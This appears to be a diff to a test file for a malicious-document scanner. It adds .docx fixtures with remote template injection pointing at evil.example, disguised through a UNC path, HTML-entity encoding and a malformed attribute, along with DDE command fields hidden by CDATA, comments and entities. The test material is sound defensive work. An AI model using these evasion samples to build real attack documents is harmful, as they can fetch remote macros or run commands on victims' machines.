@@ -52,6 +52,25 @@ const macros: [string, Uint8Array, string][] = [
     'a.docx',
   ],
   [
+    'a template from a share, with slashes',
+    docxWith(relationsWith(relation('attachedTemplate', '//evil.example/a.dotm'))),
+    'a.docx',
+  ],
+  [
+    'a template with numbers for letters',
+    docxWith(relationsWith(relation('attached&#x54;emplate', 'ht&#116;ps://evil.example/a.dotm'))),
+    'a.docx',
+  ],
+  [
+    'a template behind a value with a bracket',
+    docxWith(
+      relationsWith(
+        relation('attachedTemplate', 'https://evil.example/a.dotm').replace('Id="r1"', 'Id="r>1"'),
+      ),
+    ),
+    'a.docx',
+  ],
+  [
     'a linked OLE object',
     docxWith(relationsWith(relation('oleObject', 'mhtml:http://evil.example/a!x'))),
     'a.docx',
@@ -73,6 +92,17 @@ const macros: [string, Uint8Array, string][] = [
     }),
     'a.docx',
   ],
+  ...[
+    `<x:instrText>DDE cmd</x:instrText>`,
+    `<w:fldSimple w:instr='DDE cmd "a"'/>`,
+    '<w:instrText><![CDATA[DDE cmd]]></w:instrText>',
+    '<w:instrText>D<!-- - -->DE cmd</w:instrText>',
+    '<w:instrText>D&#68;&#x45; cmd</w:instrText>',
+  ].map((content): [string, Uint8Array, string] => [
+    `a DDE field as ${content}`,
+    docxWith({ name: 'word/header1.xml', content }),
+    'a.docx',
+  ]),
   [
     'a DDE link',
     makeXlsx(['A'], {
